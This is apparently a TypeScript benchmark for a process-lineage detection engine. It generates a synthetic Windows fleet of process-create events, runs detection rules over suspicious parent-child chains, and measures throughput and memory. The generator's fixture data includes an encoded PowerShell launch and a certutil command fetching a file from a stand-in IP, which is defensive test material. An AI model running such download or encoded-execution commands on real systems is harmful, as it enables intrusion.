/**
 * `npm run bench -- rules [--floor] [--creates N] [--hosts H] [--retention-min M] [--runs R] [--only 1|50] [--splunk [--hosts 100]]
 * [--db FILE …]` (the embedded store's rule scan, bench/_rules-scan.ts): lineage-rule engine
 * throughput (process-creates per second) with 1 rule and with 50 rules over a generated fleet (default
 * 10M process-creates on 5,000 hosts over one day), streaming with eviction, on one core.
 * Generation is done in batches outside the timed section, and each batch is JSON-decoded so the engine
 * sees records exactly as a source yields them (fresh strings, nothing shared or pre-hashed). The heap is
 * collected between batches (outside the timing) so the generator's garbage is not billed to the engine.
 * Reports wall and CPU rates, the engine's own memory (live heap + node table, measured around a forced GC)
 * besides the process peak RSS, GC time inside the timed sections, the engine's counters, and a machine
 * calibration (ns per iteration of a fixed integer loop) so figures from different machines compare.
 * Prints JSON lines on stdout.
 */
import os from 'node:os';
import { PerformanceObserver } from 'node:perf_hooks';
import v8 from 'node:v8';
import vm from 'node:vm';
import { RuleEngine } from '../server/src/rules/engine/engine.js';
import type { CompiledRule, ProcessInput } from '../server/src/rules/model.js';
import { isoMs } from '../server/src/rules/language/units.js';
import { hashKey, parseGuid, words } from '../server/src/rules/engine/guid-key.js';
import { loadPack } from '../server/src/rules/pack.js';
import { parseRulesOrThrow } from '../server/src/rules/language/parse.js';

/** Small deterministic PRNG (mulberry32). */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** What each kind of parent tends to start (weights are rough, enterprise-workstation-like). */
const CHILDREN: Record<string, [string, number][]> = {
  'services.exe': [['svchost.exe', 8], ['msiexec.exe', 1], ['trustedinstaller.exe', 1], ['cmd.exe', 0.02]],
  'svchost.exe': [['wmiprvse.exe', 2], ['taskhostw.exe', 3], ['backgroundtaskhost.exe', 3], ['runtimebroker.exe', 2], ['conhost.exe', 1], ['rundll32.exe', 1]],
  'explorer.exe': [['chrome.exe', 4], ['msedge.exe', 2], ['outlook.exe', 1], ['winword.exe', 1], ['excel.exe', 1], ['cmd.exe', 1], ['powershell.exe', 0.5], ['notepad.exe', 1], ['teams.exe', 1], ['wscript.exe', 0.05], ['control.exe', 0.05]],
  'chrome.exe': [['chrome.exe', 10]],
  'msedge.exe': [['msedge.exe', 10]],
  'teams.exe': [['teams.exe', 5]],
  'outlook.exe': [['winword.exe', 1], ['excel.exe', 1], ['chrome.exe', 1], ['wscript.exe', 0.01]],
  'winword.exe': [['splwow64.exe', 5], ['cmd.exe', 0.02], ['powershell.exe', 0.01]],
  'excel.exe': [['splwow64.exe', 5], ['cmd.exe', 0.02]],
  'cmd.exe': [['conhost.exe', 10], ['powershell.exe', 1], ['ping.exe', 2], ['net.exe', 1], ['whoami.exe', 0.5], ['ipconfig.exe', 1], ['findstr.exe', 2], ['winword.exe', 0.02]],
  'powershell.exe': [['conhost.exe', 10], ['cmd.exe', 1], ['whoami.exe', 0.5], ['net.exe', 0.5], ['certutil.exe', 0.05], ['excel.exe', 0.02]],
  'wmiprvse.exe': [['cmd.exe', 0.5], ['powershell.exe', 0.3], ['msiexec.exe', 1]],
  'wscript.exe': [['cmd.exe', 1], ['powershell.exe', 1]],
  'control.exe': [['rundll32.exe', 1]],
  'rundll32.exe': [['rundll32.exe', 0.2], ['cmd.exe', 0.05]],
  'net.exe': [['net1.exe', 1]],
};
const FALLBACK: [string, number][] = [['conhost.exe', 1]];

function picker(table: [string, number][]): (r: number) => string {
  const total = table.reduce((a, [, w]) => a + w, 0);
  return (r) => { let x = r * total; for (const [n, w] of table) { x -= w; if (x <= 0) return n; } return table[table.length - 1]![0]; };
}
const PICK: Record<string, (r: number) => string> = Object.fromEntries(Object.entries(CHILDREN).map(([k, v]) => [k, picker(v)]));
const pickFallback = picker(FALLBACK);
const DIR: Record<string, string> = { 'chrome.exe': 'C:\\Program Files\\Google\\Chrome\\Application\\', 'winword.exe': 'C:\\Program Files\\Microsoft Office\\root\\Office16\\', 'excel.exe': 'C:\\Program Files\\Microsoft Office\\root\\Office16\\', 'outlook.exe': 'C:\\Program Files\\Microsoft Office\\root\\Office16\\' };

/**
 * Records exactly as a source decodes them (Splunk JSON rows, DuckDB rows): every string a fresh flat
 * copy, none shared between records, no hash cached — so interning hosts/images/GUIDs costs what it costs
 * on real input. (Shared generator strings would let V8 reuse cached hashes; template literals would be
 * cons-strings the engine's first lookup must flatten.) Done per batch, outside the timed section.
 */
function asDecoded(batch: ProcessInput[]): ProcessInput[] {
  return JSON.parse(JSON.stringify(batch)) as ProcessInput[];
}

interface SimProc { guid: string; name: string; image: string; cmd: string; pid: number; depth: number }
interface Host { name: string; hex: string; n: number; pid: number; longLived: SimProc[]; recent: SimProc[]; ri: number }

/** A fleet-day of process-creates, yielded in time order in batches. */
function* fleet(total: number, hosts: number, batch: number, seed = 42): Generator<ProcessInput[]> {
  const rnd = prng(seed);
  const dayStart = Date.UTC(2026, 2, 2);
  const step = 86_400_000 / total;
  const hs: Host[] = Array.from({ length: hosts }, (_, i) => ({ name: `ws-${i}.corp.example`, hex: (0x10000000 + i * 7919).toString(16).slice(-8), n: 0, pid: 1000, longLived: [], recent: [], ri: 0 }));
  const mk = (h: Host, name: string, cmd?: string, depth = 1): SimProc => {
    h.n++;
    const c = h.n.toString(16).padStart(12, '0');
    return { guid: `{${h.hex}-${c.slice(0, 4)}-${c.slice(4, 8)}-0000-${c}}`, name, image: `${DIR[name] ?? 'C:\\Windows\\System32\\'}${name}`, cmd: cmd ?? name, pid: (h.pid += 4), depth };
  };
  const rec = (h: Host, p: SimProc, parent: SimProc | null, t: number): ProcessInput => ({
    guid: p.guid, parentGuid: parent ? parent.guid : '{00000000-0000-0000-0000-000000000000}', host: h.name, pid: p.pid, parentPid: parent?.pid ?? null,
    image: p.image, name: p.name, commandLine: p.cmd, parentImage: parent?.image ?? '', parentCommandLine: parent?.cmd ?? '',
    parentUser: 'CORP\\user', user: 'CORP\\user', integrityLevel: 'Medium', hashes: '', currentDirectory: 'C:\\', logonGuid: '',
    startTime: new Date(t).toISOString(), endTime: null,
  });
  let made = 0;
  const out: ProcessInput[] = [];
  // Boot: each host's long-lived processes (not all logged: services' own create is before the data).
  for (const h of hs) {
    const services = mk(h, 'services.exe');
    const explorer = mk(h, 'explorer.exe');
    const svc = [mk(h, 'svchost.exe'), mk(h, 'svchost.exe'), mk(h, 'svchost.exe')];
    h.longLived = [services, explorer, ...svc];
    for (const s of svc) { out.push(rec(h, s, services, dayStart)); made++; }
    out.push(rec(h, explorer, null, dayStart)); made++;
  }
  while (made < total) {
    const h = hs[Math.floor(rnd() * hosts)]!;
    const parent = rnd() < 0.45 || h.recent.length === 0 ? h.longLived[Math.floor(rnd() * h.longLived.length)]! : h.recent[Math.floor(rnd() * h.recent.length)]!;
    const name = (PICK[parent.name] ?? pickFallback)(rnd());
    const cmd = name === 'powershell.exe' && rnd() < 0.1 ? 'powershell -nop -enc SQBFAFgA' : name === 'certutil.exe' ? 'certutil -urlcache -f http://198.51.100.1/a a' : undefined;
    const p = mk(h, name, cmd, parent.depth + 1);
    out.push(rec(h, p, parent, dayStart + made * step));
    made++;
    // Real trees are shallow: only processes up to 8 levels deep go on spawning.
    if (p.depth < 8) { if (h.recent.length < 24) h.recent.push(p); else { h.recent[h.ri] = p; h.ri = (h.ri + 1) % 24; } }
    if (out.length >= batch) yield asDecoded(out.splice(0));
  }
  if (out.length) yield asDecoded(out);
}

/** 50 rules: the shipped pack plus one-liners over the same vocabulary (broad and narrow leaves). */
function fiftyRules(): CompiledRule[] {
  const pack = loadPack();
  const extra = [
    'explorer.exe -[1..3]-> powershell.exe -> certutil.exe', 'cmd.exe -[1..4]-> net1.exe', 'winword.exe -[1..*]-> whoami.exe',
    'outlook.exe -[1..5]-> cmd.exe', 'wmiprvse.exe -[1..3]-> net.exe', 'services.exe -[2]-> cmd.exe', 'powershell.exe -> powershell.exe',
    'cmd.exe -> cmd.exe', 'excel.exe -[1..3]-> conhost.exe', 'svchost.exe -[1..2]-> rundll32.exe -> cmd.exe', 'rundll32.exe -[1..3]-> cmd.exe',
    'explorer.exe -> cmd.exe -> ping.exe within 1m', 'chrome.exe -[1..4]-> cmd.exe|powershell.exe', 'teams.exe -[1..3]-> cmd.exe',
    'explorer.exe -[1..6]-> findstr.exe', 'cmd.exe -[1..2]-> ipconfig.exe', 'powershell.exe -[1..2]-> whoami.exe',
    'explorer.exe -> wscript.exe -[1..2]-> powershell.exe', 'wmiprvse.exe -[1..*]-> conhost.exe', 'msiexec.exe -[1..3]-> cmd.exe',
    'splwow64.exe -[1..2]-> cmd.exe', 'control.exe -[1..4]-> cmd.exe', 'taskhostw.exe -[1..2]-> powershell.exe',
    'runtimebroker.exe -[1..2]-> cmd.exe', 'backgroundtaskhost.exe -> powershell.exe', 'explorer.exe -[1..3]-> net.exe -> net1.exe',
    'winword.exe|excel.exe -[1..4]-> powershell.exe', 'services.exe -[1..*]-> whoami.exe', 'cmd.exe -> powershell.exe -> cmd.exe',
  ];
  const rules = [...pack];
  for (const [i, text] of extra.entries()) {
    if (rules.length >= 50) break;
    const r = parseRulesOrThrow(text)[0]!;
    rules.push({ ...r, id: `bench-${i + 1}` });
  }
  return rules;
}

function arg(argv: string[], name: string, def: number): number {
  const i = argv.indexOf(`--${name}`);
  return i >= 0 ? Number(argv[i + 1]) : def;
}

function median(xs: number[]): number {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.floor(s.length / 2)]!;
}

/**
 * A full GC on demand. Each batch's generation (and JSON decoding) leaves ~100 MB of garbage; collected
 * inside the timed section (GC helper threads count in process CPU time) it would be billed to the engine.
 * So the heap is collected between batches, outside the timing; the engine's own garbage still counts.
 */
v8.setFlagsFromString('--expose-gc');
const gc = vm.runInNewContext('gc') as () => void;

/** Heap plus ArrayBuffer bytes after a full GC (the engine's node table lives in ArrayBuffers). */
function liveBytes(): number {
  gc();
  const m = process.memoryUsage();
  return m.heapUsed + m.arrayBuffers;
}

function once(rules: CompiledRule[], total: number, hosts: number, retentionMs: number) {
  const base = liveBytes();
  let engine: RuleEngine | null = new RuleEngine(rules, { retentionMs });
  let ms = 0;
  let cpuMs = 0;
  let hits = 0;
  let peakRss = 0;
  let peakHeap = 0;
  let peakEngine = 0;
  const windows: [number, number][] = [];
  let gcInTimed = 0;
  const obs = new PerformanceObserver((list) => {
    for (const e of list.getEntries()) {
      for (const [a, b] of windows) if (e.startTime < b && e.startTime + e.duration > a) { gcInTimed += e.duration; break; }
    }
  });
  obs.observe({ entryTypes: ['gc'] });
  const batches = fleet(total, hosts, 100_000);
  for (let n = 0; ; n++) {
    gc();
    let batch: ProcessInput[] | null = batches.next().value ?? null;
    if (batch === null) break;
    const t0 = performance.now();
    const c0 = process.cpuUsage();
    for (const r of batch) engine.addProcess(r);
    hits += engine.drain().length;
    const c = process.cpuUsage(c0);
    const t1 = performance.now();
    windows.push([t0, t1]);
    cpuMs += (c.user + c.system) / 1000;
    ms += t1 - t0;
    const mu = process.memoryUsage();
    peakRss = Math.max(peakRss, mu.rss);
    peakHeap = Math.max(peakHeap, mu.heapUsed);
    // Dropped so the GC below can free it (the measurement must not count the batch).
    // eslint-disable-next-line no-useless-assignment
    batch = null;
    // Every 10th batch: what the engine holds (heap + node table), with no batch alive.
    if (n % 10 === 9) peakEngine = Math.max(peakEngine, liveBytes() - base);
  }
  const retained = engine.size();
  const counters = { ...engine.counters };
  const withEngine = liveBytes();
  // Dropped so the next liveBytes() no longer counts it: the difference is the engine's size.
  // eslint-disable-next-line no-useless-assignment
  engine = null;
  const engineBytes = withEngine - liveBytes();
  obs.disconnect();
  return { ms, cpuMs, hits, peakRss, peakHeap, retained, counters, engineBytes, peakEngine: Math.max(peakEngine, engineBytes), gcInTimed };
}

/**
 * `--floor`: what any engine must pay per create on this input before any rule work, over the same
 * batches: (a) reading the five fields an engine keys on, (b) that plus parsing both GUIDs into words and
 * hashing them, interning host and image through a Map (fresh strings: the hash is computed) and parsing
 * the time. The gap between (b) and the engine's 1-rule rate is the engine's own structure; the 1M/s
 * target is out of reach wherever (b) alone is near or below it.
 */
function inputFloor(total: number, hosts: number): { readMs: number; guidMs: number; keyMs: number } {
  let readMs = 0;
  let guidMs = 0;
  let keyMs = 0;
  let sink = 0;
  const hostIds = new Map<string, number>();
  const imageIds = new Map<string, number>();
  for (const batch of fleet(total, hosts, 100_000)) {
    gc();
    let c0 = process.cpuUsage();
    for (const r of batch) sink += r.guid.length + (r.parentGuid?.length ?? 0) + r.host.length + r.image.length + r.startTime.length;
    let c = process.cpuUsage(c0);
    readMs += (c.user + c.system) / 1000;
    c0 = process.cpuUsage();
    for (const r of batch) {
      if (parseGuid(r.guid)) sink ^= hashKey(1, words[0]!, words[1]!, words[2]!, words[3]!);
      if (r.parentGuid !== null && parseGuid(r.parentGuid)) sink ^= hashKey(1, words[0]!, words[1]!, words[2]!, words[3]!);
    }
    c = process.cpuUsage(c0);
    guidMs += (c.user + c.system) / 1000;
    c0 = process.cpuUsage();
    for (const r of batch) {
      let h = hostIds.get(r.host);
      if (h === undefined) { h = hostIds.size; hostIds.set(r.host, h); }
      let img = imageIds.get(r.image);
      if (img === undefined) { img = imageIds.size; imageIds.set(r.image, img); }
      if (parseGuid(r.guid)) sink ^= hashKey(h, words[0]!, words[1]!, words[2]!, words[3]!);
      if (r.parentGuid !== null && parseGuid(r.parentGuid)) sink ^= hashKey(h, words[0]!, words[1]!, words[2]!, words[3]!);
      sink += isoMs(r.startTime) + img;
    }
    c = process.cpuUsage(c0);
    keyMs += (c.user + c.system) / 1000;
  }
  if (sink === 0.5) console.error('');
  return { readMs, guidMs, keyMs };
}

/**
 * `--splunk`: the shipped pack over a generated demo fleet-day on the Splunk-protocol test server —
 * searches and rows moved by the push-down vs the process-creates in range (target ≤ 1 %).
 */
async function splunkRowsMoved(argv: string[]): Promise<void> {
  const hosts = arg(argv, 'hosts', 100);
  const { generateDemo } = await import('../server/src/demo/generate.js');
  const { startSplunkd } = await import('../tools/splunkd-sim/index.js');
  const { SplunkClient } = await import('../server/src/sources/splunk/client.js');
  const { resolveConfig } = await import('../server/src/sources/splunk/config.js');
  const { SplunkSource } = await import('../server/src/sources/splunk/source.js');
  const { newContext } = await import('../server/src/sources/event-source.js');
  const { runRules } = await import('../server/src/rules/run/run.js');
  const splunkd = await startSplunkd({});
  let creates = 0;
  let events = 0;
  for (const batch of generateDemo({ hosts })) {
    splunkd.store.addSysmon(batch.map((e) => {
      if (e.eventId === 1) creates++;
      events++;
      return {
        system: { eventId: e.eventId, computer: e.host, recordId: e.recordId, channel: 'Microsoft-Windows-Sysmon/Operational', provider: 'Microsoft-Windows-Sysmon', timeCreated: e.time },
        data: e.fields,
      };
    }));
  }
  try {
    const config = resolveConfig({ url: splunkd.url, insecure: true });
    const source = new SplunkSource(await SplunkClient.login(config, { username: 'admin', password: 'changeme' }), config);
    const ctx = newContext();
    const t0 = performance.now();
    const r = await runRules(source, loadPack(), { ctx });
    const line = {
      bench: 'rules-splunk', hosts, events, processCreates: creates, rules: loadPack().length, hits: r.hits.length,
      searches: ctx.stats.searches, rowsMoved: ctx.stats.rows, scanned: r.stats.scanned, ancestors: r.stats.ancestors,
      descendants: r.stats.descendants, scans: r.stats.scans, childPages: r.stats.childPages, plannedFromCounts: r.stats.counted,
      rowsMovedPctOfCreates: Number(((100 * ctx.stats.rows) / creates).toFixed(2)),
      ms: Math.round(performance.now() - t0),
    };
    console.log(JSON.stringify(line));
    console.error(`[rules] Splunk, ${hosts} hosts (${creates} process-creates, ${events} events): ${line.hits} hits, ${line.searches} searches, ${line.rowsMoved} rows moved = ${line.rowsMovedPctOfCreates}% of process-creates, ${line.ms} ms`);
  } finally {
    await splunkd.stop();
  }
}

/** ns per iteration of a dependent integer loop (~0.3–0.5 ns on an idle modern core): machine speed. */
function calibrate(): number {
  const loop = (n: number) => { let x = 0; for (let i = 0; i < n; i++) x = (x + i * 7) | 0; return x; };
  loop(1e6);
  const c0 = process.cpuUsage();
  const x = loop(2e8);
  const c = process.cpuUsage(c0);
  return Number((((c.user + c.system) * 1000) / 2e8 + (x === 0.5 ? 1 : 0)).toFixed(2));
}

export async function run(argv: string[]): Promise<void> {
  if (argv.includes('--splunk')) { await splunkRowsMoved(argv); return; }
  if (argv.includes('--db')) { await (await import('./_rules-scan.js')).embeddedScan(argv); return; }
  const total = arg(argv, 'creates', 10_000_000);
  const hosts = arg(argv, 'hosts', 5000);
  // Measured once, first: after the engine runs the same loop read 5.5 ns/iter instead of 0.7 (a colder
  // compile of the loop, not a slower machine), which made figures look like a 10× slower machine.
  const calibration = calibrate();
  if (argv.includes('--floor')) {
    const f = inputFloor(total, hosts);
    const line = {
      bench: 'rules-floor', creates: total, hosts, loadAvg1m: Number(os.loadavg()[0]!.toFixed(1)), calibrationNsPerIter: calibration,
      readFieldsPerCpuSec: Math.round(total / (f.readMs / 1000)), guidsOnlyPerCpuSec: Math.round(total / (f.guidMs / 1000)), keyOnlyPerCpuSec: Math.round(total / (f.keyMs / 1000)),
      keyNsPerCreate: Math.round((f.keyMs * 1e6) / total),
    };
    console.log(JSON.stringify(line));
    console.error(`[rules] floor: reading 5 fields ${(line.readFieldsPerCpuSec / 1e6).toFixed(2)}M/CPU-s; both GUIDs parsed + hashed ${(line.guidsOnlyPerCpuSec / 1e6).toFixed(2)}M/CPU-s; keying (2 GUIDs parsed + hashed, host + image interned, time parsed) ${(line.keyOnlyPerCpuSec / 1e6).toFixed(2)}M/CPU-s = ${line.keyNsPerCreate} ns per create (load ${line.loadAvg1m}, calibration ${line.calibrationNsPerIter} ns/iter)`);
    return;
  }
  const retentionMs = arg(argv, 'retention-min', 60) * 60_000;
  const runs = arg(argv, 'runs', 1);
  const sets: [string, CompiledRule[]][] = [['1 rule', parseRulesOrThrow('cmd.exe -[1..5]-> powershell.exe|pwsh.exe -[1..5]-> winword.exe|excel.exe|powerpnt.exe within 30m')], ['50 rules', fiftyRules()]];
  const only = argv.indexOf('--only') >= 0 ? argv[argv.indexOf('--only') + 1] : null;
  for (const [label, rules] of sets) {
    if (only !== null && label !== `${only} rule${only === '1' ? '' : 's'}`) continue;
    const results = Array.from({ length: runs }, () => once(rules, total, hosts, retentionMs));
    const rates = results.map((r) => total / (r.ms / 1000));
    // CPU time of this process (all its threads, GC helpers included): the honest figure on a shared machine.
    const cpuRates = results.map((r) => total / (r.cpuMs / 1000));
    const last = results[results.length - 1]!;
    const line = {
      bench: 'rules', rules: rules.length, label, creates: total, hosts, retentionMin: retentionMs / 60_000, runs,
      medianCreatesPerSec: Math.round(median(rates)), medianCreatesPerCpuSec: Math.round(median(cpuRates)),
      engineMs: Math.round(median(results.map((r) => r.ms))), engineCpuMs: Math.round(median(results.map((r) => r.cpuMs))),
      loadAvg1m: Number(os.loadavg()[0]!.toFixed(1)), calibrationNsPerIter: calibration,
      hits: last.hits, peakRssMiB: Math.round(Math.max(...results.map((r) => r.peakRss)) / 2 ** 20),
      peakHeapMiB: Math.round(Math.max(...results.map((r) => r.peakHeap)) / 2 ** 20), retainedNodes: last.retained, counters: last.counters,
      engineMiB: Number((last.engineBytes / 2 ** 20).toFixed(1)), peakEngineMiB: Number((Math.max(...results.map((r) => r.peakEngine)) / 2 ** 20).toFixed(1)),
      engineBytesPerNode: Math.round(last.engineBytes / Math.max(1, last.retained)),
      gcMsInTimed: Math.round(median(results.map((r) => r.gcInTimed))),
    };
    console.log(JSON.stringify(line));
    console.error(`[rules] ${label}: ${(line.medianCreatesPerSec / 1e6).toFixed(2)}M creates/s wall, ${(line.medianCreatesPerCpuSec / 1e6).toFixed(2)}M per CPU-second (median of ${runs}, load ${line.loadAvg1m}, calibration ${line.calibrationNsPerIter} ns/iter), ${line.hits} hits, peak RSS ${line.peakRssMiB} MiB (process, incl. generator), engine ${line.peakEngineMiB} MiB peak (${line.engineBytesPerNode} B/node at end, ${line.retainedNodes} nodes), GC in timed ${line.gcMsInTimed} ms`);
  }
}
